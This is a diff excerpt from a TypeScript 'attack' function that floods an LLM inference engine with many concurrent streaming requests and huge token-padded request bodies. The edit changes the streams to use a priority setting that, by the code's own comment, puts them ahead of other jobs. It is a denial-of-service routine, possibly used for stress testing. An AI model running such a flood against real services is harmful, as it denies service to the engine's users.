@@ -14,7 +14,9 @@ async function attack(engineUrl: string): Promise<void> {
   const [head, tail] = ['{"messages":[{"role":"user","content":"', '"}]}'];
   const mark = "<|e|>";
   const huge = Buffer.from(head + mark.repeat((BODY_BYTES - 64) / mark.length) + tail);
-  const endless = JSON.stringify({ messages: [{ role: "user", content: "Go on." }], stream: true, n: 8 });
+  // At the lowest priority: who asks the engine without one is a person, and goes before all jobs by design.
+  const messages = [{ role: "user", content: "Go on." }];
+  const endless = JSON.stringify({ messages, stream: true, priority: 0 });
   const streams = Array.from({ length: STREAMS }, () => post(endless));
   const large = Array.from({ length: BODIES }, async () => (await post(huge)).body.dump());
   await Promise.allSettled([...streams, ...large]);
